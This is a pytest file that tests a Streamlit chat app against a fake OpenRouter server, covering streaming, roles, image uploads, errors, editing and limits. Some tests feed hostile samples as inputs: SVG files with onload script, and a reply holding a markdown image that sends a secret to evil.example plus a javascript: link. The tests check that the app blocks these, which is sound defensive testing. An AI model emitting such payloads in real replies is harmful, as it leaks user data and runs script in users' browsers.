"""The chat page driven through Streamlit's AppTest against the fake OpenRouter server."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

from assistant.roles import builtin_roles
from tests.fake_openrouter import (
    TEXT_MODEL,
    VISION_MODEL,
    FakeOpenRouter,
    http_error,
    midstream_error,
    reasoning_reply,
)
from ui import state

APP = "../app.py"


@pytest.fixture
def app(fake: FakeOpenRouter, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> AppTest:
    monkeypatch.setenv("ASSISTANT_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("OPENROUTER_API_KEY", "sk-or-v1-test")
    monkeypatch.setenv("OPENROUTER_BASE_URL", fake.url)
    monkeypatch.setenv("OPENROUTER_FALLBACK_MODELS", "")
    monkeypatch.setenv("ASSISTANT_MAX_RETRIES", "0")
    at = AppTest.from_file(APP, default_timeout=20)
    at.run()
    assert not at.exception
    return at


def chat_requests(fake: FakeOpenRouter) -> list[Any]:
    """Requests for replies, without the background title requests after a first exchange."""
    return [r for r in fake.chat_requests if not is_title_request(r)]


def is_title_request(request: Any) -> bool:
    first = request.json["messages"][0]
    return first["role"] == "system" and first["content"].startswith("Write a title")


def bubble_text(at: AppTest, index: int) -> str:
    return "\n".join(md.value for md in at.chat_message[index].markdown)


def send(at: AppTest, text: str) -> AppTest:
    at.chat_input[0].set_value(text).run()
    assert not at.exception, at.exception
    return at


def png_bytes(color: str = "red", size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


def test_a_message_gets_a_streamed_reply(app: AppTest) -> None:
    send(app, "My phone battery drains fast")
    assert bubble_text(app, 0) == "My phone battery drains fast"
    assert bubble_text(app, 1) == "Echo: My phone battery drains fast"
    footer = " ".join(c.value for c in app.chat_message[1].caption)
    assert TEXT_MODEL in footer and " in · " in footer


def test_the_role_and_model_are_always_shown(app: AppTest) -> None:
    assert app.selectbox(key=state.ROLE_ID).value == "gadget"
    assert builtin_roles()["gadget"].name in app.chat_input[0].placeholder
    assert TEXT_MODEL in app.chat_input[0].placeholder


def test_switching_role_changes_the_system_prompt(app: AppTest, fake: FakeOpenRouter) -> None:
    app.selectbox(key=state.ROLE_ID).set_value("legal").run()
    send(app, "Can my employer read my email?")
    system = chat_requests(fake)[-1].json["messages"][0]
    assert system == {"role": "system", "content": builtin_roles()["legal"].system_prompt}
    assert any("not legal advice" in info.value for info in app.info)


def test_healthcare_role_shows_its_notice(app: AppTest) -> None:
    app.selectbox(key=state.ROLE_ID).set_value("healthcare").run()
    assert any("not a diagnosis" in info.value for info in app.info)


def test_an_image_reaches_a_vision_model_as_a_content_part(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    app.chat_input[0].upload("broken.png", png_bytes(), "image/png").set_value("What is this?")
    app.run()
    assert not app.exception
    assert len(app.chat_message[0].get("image")) == 1  # shown inline in the user's bubble
    request = chat_requests(fake)[-1].json
    assert request["model"] == VISION_MODEL  # the default DeepSeek model is text-only
    parts = request["messages"][-1]["content"]
    assert parts[0] == {"type": "text", "text": "What is this?"}
    assert parts[1]["image_url"]["url"].startswith("data:image/")
    footer = " ".join(c.value for c in app.chat_message[1].caption)
    assert VISION_MODEL in footer and "reads images" in footer


def test_a_file_that_is_not_an_image_is_refused_and_the_text_still_sent(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    app.chat_input[0].upload("evil.png", b"<svg onload=alert(1)>", "image/png")
    app.chat_input[0].set_value("hello").run()
    assert any("evil" in w.value and "was not attached" in w.value for w in app.warning)
    assert bubble_text(app, 1) == "Echo: hello"
    assert chat_requests(fake)[-1].json["messages"][-1]["content"] == "hello"


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        (401, "OPENROUTER_API_KEY"),
        (402, "credits"),
        (403, "flagged"),
        (429, "busy"),
        (503, "unavailable"),
    ],
)
def test_each_error_shows_its_sentence_and_keeps_the_message(
    app: AppTest, fake: FakeOpenRouter, status: int, expected: str
) -> None:
    fake.queue(http_error(status))
    send(app, "please help")
    assert bubble_text(app, 0) == "please help"
    errors = [e.value for e in app.chat_message[1].error]
    assert errors and expected in errors[0]
    assert "Traceback" not in errors[0]
    assert [b.label for b in app.button if b.key == "retry"] == ["Retry"]


def test_retry_after_an_error_sends_the_same_message_again(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    fake.queue(http_error(503))
    send(app, "try me")
    app.button(key="retry").click().run()
    assert bubble_text(app, 1) == "Echo: try me"
    assert len(app.chat_message) == 2


def test_a_midstream_error_keeps_the_partial_reply(app: AppTest, fake: FakeOpenRouter) -> None:
    fake.queue(midstream_error())
    send(app, "one two three four")
    assert bubble_text(app, 1)  # what arrived is still there
    assert app.chat_message[1].error


def test_reasoning_goes_in_a_collapsed_expander_not_the_answer(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    fake.queue(reasoning_reply("I should count.", "It is 42."))
    send(app, "what is six times seven?")
    reply = app.chat_message[1]
    assert reply.expander[0].label == "Reasoning"
    assert "count" in "\n".join(m.value for m in reply.expander[0].markdown)
    inside = {id(m) for m in reply.expander[0].markdown}
    answer = "\n".join(m.value for m in reply.markdown if id(m) not in inside)
    assert "count" not in answer and "42" in answer


def test_regenerate_shows_the_new_reply_and_keeps_the_old_one_as_a_version(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    from tests.fake_openrouter import reply

    fake.set_scenario(reply("first answer"))
    send(app, "question")
    fake.set_scenario(reply("second answer"))
    app.button(key="regenerate").click().run()
    assert len(app.chat_message) == 2 and bubble_text(app, 1) == "second answer"
    assert len(chat_requests(fake)) == 2
    assert "2/2" in " ".join(c.value for c in app.chat_message[1].caption)
    older = app.session_state[state.MESSAGES][1]
    app.button(key=f"older_{older.id}").click().run()  # ‹ back to the first answer
    assert bubble_text(app, 1) == "first answer"
    assert "1/2" in " ".join(c.value for c in app.chat_message[1].caption)


def test_edit_and_resend_keeps_the_original_as_an_earlier_version(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    send(app, "frist")
    first = app.session_state[state.MESSAGES][0]
    app.button(key=f"edit_{first.id}").click().run()
    app.text_area(key=state.EDITED_TEXT).set_value("first")
    app.button[[b.label for b in app.button].index("Send")].click().run()
    assert bubble_text(app, 0) == "first"
    assert bubble_text(app, 1) == "Echo: first"
    assert len(app.chat_message) == 2
    assert "2/2" in " ".join(c.value for c in app.chat_message[0].caption)


def test_an_earlier_message_can_be_edited_and_the_later_turns_are_kept_aside(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    send(app, "one")
    send(app, "two")
    first = app.session_state[state.MESSAGES][0]
    app.button(key=f"edit_{first.id}").click().run()
    app.text_area(key=state.EDITED_TEXT).set_value("one, better")
    app.button[[b.label for b in app.button].index("Send")].click().run()
    assert [bubble_text(app, i) for i in range(len(app.chat_message))] == [
        "one, better",
        "Echo: one, better",
    ]
    assert chat_requests(fake)[-1].json["messages"][-1]["content"] == "one, better"


def test_a_blank_edit_is_refused_and_the_message_kept(app: AppTest, fake: FakeOpenRouter) -> None:
    send(app, "keep me")
    first = app.session_state[state.MESSAGES][0]
    app.button(key=f"edit_{first.id}").click().run()
    app.text_area(key=state.EDITED_TEXT).set_value("   ")
    app.button[[b.label for b in app.button].index("Send")].click().run()
    assert any("empty" in w.value for w in app.warning)
    assert app.text_area(key=state.EDITED_TEXT).value == "   "  # the box stays open
    app.button[[b.label for b in app.button].index("Cancel")].click().run()
    assert bubble_text(app, 0) == "keep me" and len(chat_requests(fake)) == 1


def test_starter_questions_send_a_message(app: AppTest) -> None:
    starter = builtin_roles()["gadget"].starters[0]
    app.button(key="starter_0").click().run()
    assert bubble_text(app, 0) == starter


def test_dangerous_markdown_in_a_reply_is_neutralised(app: AppTest, fake: FakeOpenRouter) -> None:
    from tests.fake_openrouter import reply

    fake.queue(reply("See ![x](https://evil.example/p?d=secret) and [y](javascript:alert(1))"))
    send(app, "hi")
    text = bubble_text(app, 1)
    assert "![x]" not in text and "javascript:" not in text


def test_long_chats_hide_older_turns(app: AppTest) -> None:
    from assistant.reply import Reply, ReplyStatus
    from ui.state import ChatMessage

    app.session_state[state.MESSAGES] = [
        ChatMessage("user", f"m{i}", id=f"u{i}")
        if i % 2 == 0
        else ChatMessage(
            "assistant", f"m{i}", reply=Reply(f"m{i}", status=ReplyStatus.COMPLETE), id=f"a{i}"
        )
        for i in range(100)
    ]
    app.run()
    assert len(app.chat_message) == state.VISIBLE_MESSAGES
    app.button(key="show_earlier_button").click().run()
    assert len(app.chat_message) == 2 * state.VISIBLE_MESSAGES


def test_sidebar_images_attach_to_the_next_message(app: AppTest, fake: FakeOpenRouter) -> None:
    uploader = app.sidebar.get("file_uploader")[0]
    uploader.set_value([("a.png", png_bytes("red"), "image/png")]).run()  # type: ignore[attr-defined]
    assert not app.exception
    send(app, "and this one?")
    assert len(app.chat_message[0].get("image")) == 1
    assert chat_requests(fake)[-1].json["model"] == VISION_MODEL
    send(app, "thanks")  # the attachment went with one message only
    assert chat_requests(fake)[-1].json["messages"][-1]["content"] == "thanks"


def test_too_many_images_are_refused_with_a_sentence(app: AppTest, fake: FakeOpenRouter) -> None:
    for index in range(5):
        app.chat_input[0].upload(f"p{index}.png", png_bytes(), "image/png")
    app.chat_input[0].set_value("five photos").run()
    assert any("up to 4 images" in w.value for w in app.warning)


def test_the_model_picker_lists_the_catalogue_and_changes_the_model(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    assert len(app.selectbox) == 1  # the role; the model list is drawn only while its menu is open
    app.session_state[state.MODEL_MENU] = True  # open the menu, as a click does
    app.run()
    picker = app.selectbox(key=state.MODEL_PICKER)
    assert any(o.startswith("🖼 Google: Gemini 2.5 Flash ·") for o in picker.options)
    assert any("(free) · free" in o for o in picker.options)  # free models are findable
    picker.set_value(VISION_MODEL).run()
    assert VISION_MODEL in app.chat_input[0].placeholder
    send(app, "hello")
    assert chat_requests(fake)[-1].json["model"] == VISION_MODEL


def test_without_a_key_the_offline_demo_banner_says_how_to_add_one(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("ASSISTANT_DATA_DIR", str(tmp_path))
    at = AppTest.from_file(APP, default_timeout=20)
    at.run()
    banner = " ".join(w.value for w in at.warning) + " ".join(e.value for e in at.error)
    assert "OPENROUTER_API_KEY" in banner


def test_the_sentiment_role_shows_the_models_structured_analysis(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    from tests.fake_openrouter import reply

    analysis = (
        '{"label": "negative", "score": -0.7, "emotions": ["frustration"], '
        '"key_phrases": ["late again"], "explanation": "The delivery was late again."}'
    )
    fake.queue(reply(analysis))
    app.selectbox(key=state.ROLE_ID).set_value("sentiment").run()
    send(app, "The delivery was late again.")
    body = chat_requests(fake)[-1].json
    assert body["response_format"]["type"] == "json_schema"
    shown = " ".join(m.value for m in app.chat_message[1].markdown)
    assert "late again" in shown and '"label"' not in shown  # a card, not raw JSON
    assert "From the model" in " ".join(c.value for c in app.chat_message[1].caption)


def test_the_sentiment_role_falls_back_to_the_local_scorer(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    app.selectbox(key=state.ROLE_ID).set_value("sentiment").run()
    send(app, "I absolutely love it, thank you!")  # the fake echoes: not JSON
    shown = " ".join(m.value for m in app.chat_message[1].markdown).lower()
    assert "positive" in shown
    captions = " ".join(c.value for c in app.chat_message[1].caption)
    assert "Local reading (word list, no AI model)" in captions


def test_a_reply_left_streaming_by_a_dead_process_shows_as_interrupted(
    app: AppTest, tmp_path: Path
) -> None:
    from datetime import UTC, datetime, timedelta

    from assistant.store import NewTurn, Store

    send(app, "first question")
    conversation_id = app.session_state[state.CONVERSATION_ID]
    owner = app.session_state[state.USER_ID]
    url = f"sqlite:///{(tmp_path / 'assistant.db').as_posix()}"
    long_ago = datetime.now(UTC) - timedelta(minutes=5)
    store = Store(url, clock=lambda: long_ago)
    try:
        # What a process killed mid-reply leaves: a "streaming" row nobody touches any more.
        orphan = store.start_turn(NewTurn(owner, conversation_id, "second", "gadget", TEXT_MODEL))
        app.session_state[state.CONVERSATION_ID] = ""  # as a new tab would: open it again
        app.run()
        assert not app.exception
        stored = Store(url).get_message(owner, orphan.reply_id)
        assert stored.status == "error" and "interrupted" in (stored.error or "")
        assert any("interrupted" in e.value for e in app.chat_message[3].error)
    finally:
        store.close()


def test_older_replies_keep_their_thumbs_in_one_menu_and_copy_inline(app: AppTest) -> None:
    send(app, "first question")
    send(app, "second question")
    assert len(app.get("feedback")) == 1  # inline thumbs for the last reply only
    copies = [h.proto.body for h in app.get("html") if "data-copy=" in h.proto.body]
    replies = [m.id for m in app.session_state[state.MESSAGES] if m.role == "assistant"]
    assert [f'data-copy="{r}"' in c for r, c in zip(replies, copies, strict=True)] == [True, True]
    older = app.session_state[state.MESSAGES][1]
    app.session_state[f"more_{older.id}"] = True  # open its "More" menu, as a click does
    app.run()
    assert len(app.get("feedback")) == 2
    app.get("feedback")[0].set_value(1).run()  # thumbs up, from the menu
    assert app.session_state[state.MESSAGES][1].feedback == "up"
    app.session_state[f"more_{older.id}"] = False
    app.run()
    footer = " ".join(c.value for c in app.chat_message[1].caption)
    assert "rated helpful" in footer  # the rating stays visible with the menu closed


@pytest.fixture
def no_client_filter(monkeypatch: pytest.MonkeyPatch) -> None:
    """Post files as a hand-made WebSocket client would: past the browser's file filter
    (AppTest applies the same filter the browser does)."""
    import streamlit.testing.v1.element_tree as tree

    monkeypatch.setattr(tree, "_assert_chat_input_filename", lambda *_: None)


def test_an_svg_posted_past_the_browser_filter_is_refused_by_name_and_the_text_kept(
    app: AppTest, fake: FakeOpenRouter, no_client_filter: None
) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    app.chat_input[0].upload("evil.svg", svg, "image/svg+xml").set_value("keep my text").run()
    assert not app.exception
    assert any("evil" in w.value and "was not attached" in w.value for w in app.warning)
    assert bubble_text(app, 0) == "keep my text"
    assert chat_requests(fake)[-1].json["messages"][-1]["content"] == "keep my text"


def test_a_message_over_the_limit_is_refused_and_given_back_whole(
    app: AppTest, fake: FakeOpenRouter
) -> None:
    from assistant.limits import MAX_MESSAGE_CHARS

    long_text = "word " * (MAX_MESSAGE_CHARS // 5) + "THE END"
    send(app, long_text)
    assert len(app.chat_message) == 0 and chat_requests(fake) == []
    assert any(f"{MAX_MESSAGE_CHARS:,}" in w.value for w in app.warning)
    box = app.text_area(key=state.RETURNED_BOX)
    assert box.value == long_text  # nothing lost, not even the end
    box.set_value("word " * 10 + "THE END")
    app.button[[b.label for b in app.button].index("Send")].click().run()
    assert bubble_text(app, 0) == "word " * 10 + "THE END"
    assert not app.session_state[state.RETURNED]
